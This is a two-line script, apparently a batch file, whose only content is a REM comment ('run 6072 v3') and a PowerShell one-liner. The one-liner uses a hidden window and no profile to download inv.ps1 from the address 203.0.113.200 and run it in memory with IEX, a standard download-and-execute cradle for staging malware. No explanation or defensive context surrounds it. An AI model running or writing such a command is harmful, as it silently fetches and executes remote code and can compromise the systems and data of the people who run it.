REM run 6072 v3
powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.200/inv.ps1')"
